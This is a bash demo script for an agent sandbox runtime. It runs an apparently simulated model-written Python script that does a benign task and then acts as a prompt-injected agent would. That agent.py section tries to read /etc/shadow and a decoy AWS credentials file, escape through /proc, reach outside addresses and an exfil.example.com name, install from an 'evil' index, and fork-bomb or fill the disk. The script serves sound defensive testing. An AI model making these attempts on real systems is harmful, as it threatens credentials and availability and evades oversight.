#!/usr/bin/env bash
# The agentrt demo: a model-written-looking Python script runs under the agent profile in a
# Debian rootfs (debootstrap'ed once, cached), allowed two names: an "API" and a package index
# the demo serves on the host's loopback, behind a DNS server of its own (tests/lib/dns_server.py,
# named by an agentrt.conf of the demo's: nothing leaves the machine).  The script does its job
# (fetches its task by name, pip-installs a package from the allowed index), then tries what an
# injected attacker would: install from another index, read host secrets and a planted
# credential, reach another address, mount, fork-bomb, fill the disk, run past its deadline.
# The demo prints what happened, the denials the agent itself could read, the audit log's alerts
# and `audit --suggest`, and shows that nothing is left behind.
# Usage: demo/demo.sh [path/to/agentrt]
set -euo pipefail
AGENTRT=$(realpath "${1:-$(dirname "$0")/../agentrt}")
here=$(cd "$(dirname "$0")" && pwd)
source "$here/../tests/lib/debian.sh"
work=$(mktemp -d /tmp/agentrt-demo.XXXXXX)
chmod 755 "$work" # the container's root is an unprivileged uid on the host: it reads agent.py
api_pid= dns_pid=
cleanup() {
  "$AGENTRT" --root "$work/state" delete --force demo >/dev/null 2>&1 || true
  [ -n "$api_pid" ] && kill "$api_pid" 2>/dev/null || true
  [ -n "$dns_pid" ] && kill "$dns_pid" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
rt() { "$AGENTRT" --root "$work/state" --config "$work/agentrt.conf" "$@"; }

say "a Debian 12 rootfs with python3 (debootstrap, cached in $AGENTRT_TEST_CACHE)"
rootfs=$(debian_rootfs)
echo "$rootfs"

say "an API and a package index on the host's loopback, behind names: what the agent may reach"
mkdir -p "$work/www/simple/agentpkg"
echo '{"task": "sum the squares", "numbers": [3, 4, 12]}' >"$work/www/task.json"
python3 - "$work/www" <<'PY'
import base64, hashlib, sys, zipfile
root = sys.argv[1]
files = {"agentpkg/__init__.py": b"def square(n):\n    return n * n\n",
         "agentpkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: agentpkg\nVersion: 1.0\n",
         "agentpkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: agentrt-demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
record = "".join("%s,sha256=%s,%d\n" % (n, base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode(), len(d)) for n, d in files.items())
with zipfile.ZipFile(root + "/agentpkg-1.0-py3-none-any.whl", "w") as z:
    for n, d in files.items():
        z.writestr(n, d)
    z.writestr("agentpkg-1.0.dist-info/RECORD", record + "agentpkg-1.0.dist-info/RECORD,,\n")
open(root + "/simple/agentpkg/index.html", "w").write('<a href="../../agentpkg-1.0-py3-none-any.whl">agentpkg-1.0-py3-none-any.whl</a>\n')
PY
python3 "$here/../tests/lib/http_server.py" "$work/www" "$work/http.port" 127.0.0.1 >/dev/null 2>&1 &
api_pid=$!
echo '{"api.agent.test": {"a": ["127.0.0.1"], "ttl": 30},
      "pypi.agent.test": {"cname": "files.cdn.test", "ttl": 30},
      "files.cdn.test": {"a": ["127.0.0.1"], "ttl": 5},
      "evil-index.test": {"a": ["127.0.0.1"], "ttl": 30}}' >"$work/zone.json"
python3 "$here/../tests/lib/dns_server.py" "$work/zone.json" "$work/dns.port" "$work/dns.log" >/dev/null 2>&1 &
dns_pid=$!
for _ in $(seq 50); do [ -s "$work/http.port" ] && [ -s "$work/dns.port" ] && break; sleep 0.1; done
port=$(cat "$work/http.port")
# The node's operator: the sandbox's resolver asks the demo's DNS server, whose names may be the
# host's loopback (agentrt.conf's dns_host_answers; never a cloud's metadata address).
printf 'dns_servers = 127.0.0.1:%s\ndns_host_answers = allow\n' "$(cat "$work/dns.port")" >"$work/agentrt.conf"
chmod 0600 "$work/agentrt.conf"
echo "http://api.agent.test:$port/task.json and the index http://pypi.agent.test:$port/simple/ (a CNAME to a CDN's name)"

say "the model-written script (agent.py)"
mkdir -p "$work/bundle"
cat >"$work/agent.py" <<'PY'
import json, os, socket, subprocess, sys, urllib.request
API, INDEX = sys.argv[1], sys.argv[2]
def pip(index, host):
    r = subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-cache-dir", "--disable-pip-version-check",
                        "--retries", "0", "--target", "/tmp/site", "--trusted-host", host, "--index-url", index, "agentpkg"],
                       capture_output=True, text=True)
    if r.returncode:
        raise RuntimeError(r.stderr.strip().splitlines()[-1])
    sys.path.insert(0, "/tmp/site")
    import agentpkg
    return "installed agentpkg"
def show(what, fn):
    try:
        print(f"  {what:<44} {fn()}")
    except Exception as e:
        print(f"  {what:<44} refused: {type(e).__name__}: {e}")
    sys.stdout.flush()

print("the job:")
task = json.load(urllib.request.urlopen(API + "/task.json", timeout=5))
show("fetch the task from the API", lambda: task["task"])
show("pip install agentpkg from the allowed index", lambda: pip(INDEX, "pypi.agent.test"))
show("compute it with agentpkg", lambda: sum(__import__("agentpkg").square(n) for n in task["numbers"]))
show("who am I", lambda: f"uid {os.getuid()}, {os.cpu_count()} CPU, kernel {os.uname().release}")
show("write scratch files", lambda: open("/tmp/scratch", "w").write("x" * 4096) and "ok")

print("then, injected:")
show("pip install from another index, by name", lambda: pip(INDEX.replace("pypi.agent.test", "evil-index.test"), "evil-index.test"))
show("read /etc/shadow", lambda: open("/etc/shadow").read()[:20])
show("climb out via /proc/1/root/../..", lambda: "lands in its own / (" + ", ".join(sorted(os.listdir("/proc/1/root/../.."))[:3]) + ", ...)")
show("look for the host's processes", lambda: f"{len([p for p in os.listdir('/proc') if p.isdigit()])} visible, all its own")
show("read ~/.aws/credentials (a planted decoy)", lambda: open("/home/agent/.aws/credentials").read().split()[0])
show("reach another address (203.0.113.7:443)", lambda: socket.create_connection(("203.0.113.7", 443), timeout=3))
show("DNS (8.8.8.8:53)", lambda: socket.create_connection(("8.8.8.8", 53), timeout=3))
show("resolve a name not on the list", lambda: socket.gethostbyname("exfil.example.com"))
print("what the agent can read about it (/run/agentrt/denials):")
print("".join("  " + l for l in open("/run/agentrt/denials") if not l.startswith("#")), end="", flush=True)
show("mount a filesystem", lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "/mnt"], capture_output=True, text=True).stderr.strip() or "mounted")
def forkbomb():
    kids = []
    try:
        for _ in range(10000):
            pid = os.fork()
            if pid == 0:
                try:
                    os.pause()
                finally:
                    os._exit(0)
            kids.append(pid)
    finally:
        n = len(kids)
        for k in kids:
            os.kill(k, 9)
            os.waitpid(k, 0)
    return f"{n} forks"
show("fork-bomb", lambda: f"stopped after {forkbomb()}")
def fill():
    n = 0
    with open("/tmp/fill", "wb") as f:
        while True:
            f.write(b"\0" * (1 << 20)); f.flush(); n += 1
show("fill the disk", fill)
print("  run forever ...", flush=True)
import time
time.sleep(3600)
PY
rt spec --agent --bundle "$work/bundle"
jq --arg r "$rootfs" --arg api "http://api.agent.test:$port" --arg index "http://pypi.agent.test:$port/simple/" \
  --arg py "$work/agent.py" '
    .root.path = $r | .hostname = "agent"
  | .process.args = ["python3", "/tmp/agent.py", $api, $index] | .process.terminal = false
  | .mounts += [{"destination": "/tmp/agent.py", "type": "bind", "source": $py, "options": ["bind", "ro"]}]' \
  "$work/bundle/config.json" >"$work/c.json"
mv "$work/c.json" "$work/bundle/config.json"
echo "agentrt run --agent --net-allow api.agent.test:$port,pypi.agent.test:$port --timeout 20s --disk 32m --canary /home/agent/.aws/credentials"

say "the run"
status=0
rt run --keep --net-allow "api.agent.test:$port,pypi.agent.test:$port" --timeout 20s --disk 32m --canary /home/agent/.aws/credentials \
  --bundle "$work/bundle" demo || status=$?
echo "  -> ended with status $status ($(rt state demo 2>/dev/null | jq -r '.annotations["io.agentrt.stop.reason"] // "exited"'))"

say "the audit log's alerts and denials"
rt audit --json demo 2>/dev/null | jq -r 'select(.severity == "alert" or .verdict == "deny" or .event != null)
  | "  \(.severity)\t\(.syscall // .event)\t\(.rule // .verdict // "")\t\(.args.addr.address // .args.name // .args.target // .detail // "")"' | sort | uniq -c | sort -rn
echo "  alerts counted: $(rt state demo 2>/dev/null | jq -r '.annotations["io.agentrt.audit.alerts"]')"
echo "  the allowlist that would have let it all through (audit --suggest): $(rt audit demo --suggest 2>/dev/null)"
rt delete demo 2>/dev/null || true

say "nothing is left behind"
echo "containers under --root: $(rt list -q | wc -l)"
echo "cgroups left: $(find /sys/fs/cgroup -path '*agentrt/demo' 2>/dev/null | wc -l)"
echo "the Debian rootfs is unchanged: $(test ! -e "$rootfs/tmp/scratch" && echo yes || echo NO)"
